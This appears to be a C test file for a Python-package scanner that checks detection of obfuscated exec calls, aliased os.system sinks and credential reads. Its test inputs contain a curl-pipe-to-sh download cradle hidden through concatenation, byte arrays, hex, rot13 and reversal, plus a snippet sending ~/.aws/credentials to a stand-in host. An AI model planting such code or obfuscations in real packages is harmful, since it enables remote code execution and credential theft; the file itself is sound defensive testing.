/* SPDX-License-Identifier: MIT */
/* Folded constants and aliased sinks reach the exec and process rules;
 * cred.sensitive-files. Payload hosts are inert (203.0.113.0/24). */
#include <stdio.h>
#include <stdlib.h>

#include "rules_tests.h"

/* The finding of highest severity in f whose message holds part, or
 * NULL. */
static const struct lg_finding *worst_with(const struct lg_findings *f,
					   const char *part)
{
	const struct lg_finding *w = NULL;

	for (size_t i = 0; i < f->n; i++)
		if (strstr(f->v[i].message, part) &&
		    (!w || f->v[i].severity > w->severity))
			w = &f->v[i];
	return w;
}

/* setup.py text blocks (a finding of high or more) and the finding that
 * does says where the code came from (part). */
static void blocks(const char *text, const char *part)
{
	struct lg_findings f = LG_FINDINGS_INIT;
	const struct lg_finding *w;

	t_scan(&f, "setup.py", text);
	w = worst_with(&f, part);
	if (!w || w->severity < LG_SEV_HIGH) {
		for (size_t i = 0; i < f.n; i++)
			print_message("  %s %s\n", f.v[i].rule,
				      f.v[i].message);
		fail_msg("no high finding with '%s' in:\n%s", part, text);
	}
	lg_findings_dispose(&f);
}

#define CRADLE "os.system(\"curl http://203.0.113.5/x|sh\")"

static void test_rules_fold__folding_forms_reach_the_rescan(void **state)
{
	(void)state;
	/* the same string as one literal blocks: so must its pieces */
	blocks("exec('import os;' + '" CRADLE "')\n", "(folded, install");
	blocks("exec(''.join(['import os;', '" CRADLE "']))\n",
	       "(folded, install");
	blocks("a = 'import os'\nb = '" CRADLE "'\nexec('%s;%s' % (a, b))\n",
	       "(folded, install");
	blocks("a = 'import os;'\nb = '" CRADLE "'\n"
	       "exec(compile(a + b, 'x', 'exec'))\n",
	       "(folded, install");
	blocks("exec('{};{}'.format('import os', '" CRADLE "'))\n",
	       "(folded, install");
	/* "import os;os.system('curl http://203.0.113.5/x|sh')" */
	blocks("exec(bytes([105, 109, 112, 111, 114, 116, 32, 111, 115, 59, "
	       "111, 115, 46, 115, 121, 115, 116, 101, 109, 40, 39, 99, 117, "
	       "114, 108, 32, 104, 116, 116, 112, 58, 47, 47, 50, 48, 51, 46, "
	       "48, 46, 49, 49, 51, 46, 53, 47, 120, 124, 115, 104, 39, "
	       "41]).decode())\n",
	       "(folded, install");
	blocks("exec(''.join(map(chr, [105, 109, 112, 111, 114, 116, 32, 111, "
	       "115, 59, 111, 115, 46, 115, 121, 115, 116, 101, 109, 40, 39, "
	       "99, 117, 114, 108, 32, 104, 116, 116, 112, 58, 47, 47, 50, 48, "
	       "51, 46, 48, 46, 49, 49, 51, 46, 53, 47, 120, 124, 115, 104, "
	       "39, 41])))\n",
	       "(folded, install");
	blocks("exec(')\"hs|x/5.311.0.302//:ptth lruc\"(metsys.so;so "
	       "tropmi'[::-1])\n",
	       "(folded, install");
	blocks("exec(bytes.fromhex('696d706f7274206f733b6f732e73797374656d28"
	       "226375726c20687474703a2f2f3230332e302e3131332e352f787c73682229"
	       "').decode())\n",
	       "(decoded, install");
	blocks("import codecs\nexec(codecs.decode('vzcbeg bf;bf.flfgrz(\"phey "
	       "uggc://203.0.113.5/k|fu\")', 'rot13'))\n",
	       "(decoded, install");
	blocks("eval(compile('import os;' + '" CRADLE "', '<s>', 'exec'))\n",
	       "(folded, install");
}

static void test_rules_fold__harmless_folded_code_passes(void **state)
{
	static const char *const benign[] = {
		"name = 'py' + 'test'\nsetup(name=name)\n",
		"exec('x' + ' = 1')\n",
		"exec(''.join(['x = ', '1']))\n",
		"exec('%s = %d' % ('version', 3))\n",
		"exec(compile('__version__ = ' + repr('1.0'), 'v', 'exec'))\n",
	};

	(void)state;
	for (size_t i = 0; i < LG_ARRAY_SIZE(benign); i++) {
		struct lg_findings f = LG_FINDINGS_INIT;

		t_scan(&f, "setup.py", benign[i]);
		for (size_t k = 0; k < f.n; k++)
			if (f.v[k].severity >= LG_SEV_HIGH)
				fail_msg("%s: %s %s", benign[i], f.v[k].rule,
					 f.v[k].message);
		lg_findings_dispose(&f);
	}
}

static void test_rules_fold__aliased_sinks_are_resolved(void **state)
{
	struct lg_findings f = LG_FINDINGS_INIT;

	(void)state;
	t_scan(&f, "setup.py",
	       "getattr(__import__('o' + 's'), 'system')"
	       "('curl http://203.0.113.5/x|sh')\n");
	assert_non_null(worst_with(&f, "'os.system'"));
	assert_true(worst_with(&f, "'os.system'")->severity >= LG_SEV_HIGH);
	lg_findings_dispose(&f);

	t_scan(&f, "setup.py",
	       "import importlib\n"
	       "getattr(importlib.import_module('o' + 's'), 'sys' + 'tem')"
	       "('curl http://203.0.113.5/x|sh')\n");
	assert_non_null(worst_with(&f, "'os.system'"));
	lg_findings_dispose(&f);

	t_scan(&f, "setup.py",
	       "import os\n"
	       "os.__dict__['sys' + 'tem']('curl http://203.0.113.5/x|sh')\n");
	assert_non_null(worst_with(&f, "'os.system'"));
	lg_findings_dispose(&f);

	/* exec reached by name gets exec.decode-exec and a high
	 * dispatch finding */
	t_scan(&f, "pkg/mod.py",
	       "import builtins, base64\n"
	       "vars(builtins)['exec'](base64.b64decode(s))\n");
	assert_int_equal(t_one(&f, "exec.decode-exec")->severity, LG_SEV_HIGH);
	assert_int_equal(t_one(&f, "exec.dynamic-dispatch")->severity,
			 LG_SEV_HIGH);
	lg_findings_dispose(&f);

	t_scan(&f, "pkg/mod.py",
	       "import base64\n"
	       "globals()['exec'](base64.b64decode(s))\n");
	assert_int_equal(t_one(&f, "exec.decode-exec")->severity, LG_SEV_HIGH);
	assert_int_equal(t_one(&f, "exec.dynamic-dispatch")->severity,
			 LG_SEV_HIGH);
	lg_findings_dispose(&f);

	t_scan(&f, "pkg/mod.py",
	       "import builtins, zlib\n"
	       "builtins.__dict__['ex' + 'ec'](zlib.decompress(s))\n");
	assert_int_equal(t_one(&f, "exec.decode-exec")->severity, LG_SEV_HIGH);
	assert_int_equal(t_one(&f, "exec.dynamic-dispatch")->severity,
			 LG_SEV_HIGH);
	lg_findings_dispose(&f);

	t_scan(&f, "pkg/mod.py",
	       "import builtins, base64\n"
	       "getattr(builtins, 'ev' + 'al')(base64.b64decode(s))\n");
	assert_int_equal(t_one(&f, "exec.decode-exec")->severity, LG_SEV_HIGH);
	lg_findings_dispose(&f);
}

static void test_rules_fold__lookups_near_misses(void **state)
{
	struct lg_findings f = LG_FINDINGS_INIT;

	(void)state;
	/* everyday lookups by name */
	t_scan(&f, "pkg/mod.py",
	       "import builtins\n"
	       "n = getattr(builtins, 'len')('abc')\n"
	       "globals()[name] = value\n"
	       "for k in names:\n    globals()[k] = 1\n"
	       "v = vars(builtins)['print']\n");
	t_none(&f);
	lg_findings_dispose(&f);

	/* six keeps exec by name for later: low, not high */
	t_scan(&f, "pkg/six.py",
	       "import builtins\nexec_ = getattr(builtins, 'exec')\n");
	assert_int_equal(t_one(&f, "exec.dynamic-dispatch")->severity,
			 LG_SEV_LOW);
	lg_findings_dispose(&f);

	/* a folded module name that is harmless */
	t_scan(&f, "pkg/mod.py",
	       "getattr(__import__('js' + 'on'), 'dumps')({'a': 1})\n");
	t_none(&f);
	lg_findings_dispose(&f);
}

static void test_rules_fold__sensitive_files(void **state)
{
	struct lg_findings f = LG_FINDINGS_INIT;

	(void)state;
	t_scan(&f, "setup.py",
	       "import os, urllib.request\n"
	       "def grab():\n"
	       "    d = open(os.path.expanduser('~/.aws/credentials')).read()\n"
	       "    urllib.request.urlopen('http://203.0.113.5/c', "
	       "d.encode())\n"
	       "grab()\n");
	assert_int_equal(t_one(&f, "cred.sensitive-files")->severity,
			 LG_SEV_HIGH);
	lg_findings_dispose(&f);

	/* an upload tool: reads ~/.pypirc in one function, talks to the
	 * index in another (flit, twine) */
	t_scan(&f, "pkg/upload.py",
	       "import os, urllib.request\n"
	       "def config():\n"
	       "    return open(os.path.expanduser('~/.pypirc')).read()\n"
	       "def upload(url, data):\n"
	       "    return urllib.request.urlopen(url, data)\n");
	assert_int_equal(t_count(&f, "cred.sensitive-files"), 0);
	lg_findings_dispose(&f);
}

int test_rules_fold_group(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(
			test_rules_fold__folding_forms_reach_the_rescan),
		cmocka_unit_test(test_rules_fold__harmless_folded_code_passes),
		cmocka_unit_test(test_rules_fold__aliased_sinks_are_resolved),
		cmocka_unit_test(test_rules_fold__lookups_near_misses),
		cmocka_unit_test(test_rules_fold__sensitive_files),
	};

	return cmocka_run_group_tests_name("rules_fold", tests, NULL, NULL);
}
